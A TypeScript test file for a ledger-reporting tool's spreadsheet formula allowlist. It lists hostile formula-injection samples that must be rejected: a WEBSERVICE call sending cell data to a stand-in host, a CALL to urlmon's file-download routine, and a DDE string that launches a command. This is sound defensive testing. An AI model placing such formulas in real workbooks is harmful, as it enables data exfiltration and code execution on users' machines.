import assert from "node:assert/strict";
import { readBook } from "../../../src/operations/read-book";
import { reportAppraisal } from "../../../src/operations/report-appraisal";
import { summariseMonth } from "../../../src/operations/monthly-summary";
import { defaultProfile } from "../../../src/profile/index";
import { serialOf } from "../../../src/sheet/serial";
import type { SheetDraft } from "../../../src/sheet/draft";
import { draftFromText, draftText } from "../../../src/workbook/excel/draft-json";
import { isOwnFormula } from "../../../src/workbook/kept/own-formulas";
import { openWorkbook } from "../../../src/workbook/file/index";
import { toXlsx } from "../../samples/files";
import { makeLedger } from "../../samples/ledger";

describe("formulas of our own sheets", () => {
  const strangers = [
    'WEBSERVICE("http://x/?"&A2)',
    "webservice (A1)",
    'HYPERLINK("http://x","看")',
    `HYPERLINK("#'台账'!A1","看")&HYPERLINK("http://x","")`,
    'CALL("urlmon","URLDownloadToFileA")',
    "cmd|' /C calc'!A0",
    "'[别的.xlsx]表'!A1",
    "[1]表!A1",
    "INDIRECT(A1)",
    "EXEC(A1)",
    "TZ.化解率(A1:A9)",
    "FILTERXML(A1,B1)",
    "IMAGE(A1)",
    "@SUM(A1)",
    'IF(A1=0,"未闭合,WEBSERVICE(A2)',
    `SUM(${"A1,".repeat(5_000)}A1)`,
  ];
  for (const formula of strangers)
    it(`are not: ${formula.slice(0, 60)}`, () => {
      assert.equal(isOwnFormula(formula), false);
    });

  it("are all those of 月报 and 考核, whose drafts come back as they were", async () => {
    const ledger = makeLedger({ kind: "dispute", rows: 60, seed: 5, mess: 1, sheet: "纠纷" });
    const workbook = await openWorkbook(await toXlsx([ledger]), "台账.xlsx");
    const book = await readBook(workbook, defaultProfile);
    const asOf = serialOf(2024, 5, 31);
    const facts = { profile: defaultProfile, asOf };
    const period = "2024-05";
    const drafts: readonly SheetDraft[] = [
      ...summariseMonth([book], { ...facts, period }).drafts,
      ...reportAppraisal([book], { ...facts, period, by: "village" }).drafts,
    ];
    const formulas = drafts.flatMap(({ rows }) =>
      rows.flatMap((cells) => cells.flatMap((cell) => cell?.formula ?? [])),
    );
    assert.ok(formulas.length > 50, `${formulas.length}`);
    assert.deepEqual(
      formulas.filter((formula) => !isOwnFormula(formula)),
      [],
    );
    for (const draft of drafts) {
      const back = draftFromText(draftText(draft));
      assert.deepEqual(back && { ...back, rowHeights: [...(back.rowHeights ?? [])] }, {
        ...draft,
        rowHeights: [...(draft.rowHeights ?? [])],
      });
    }
  });
});
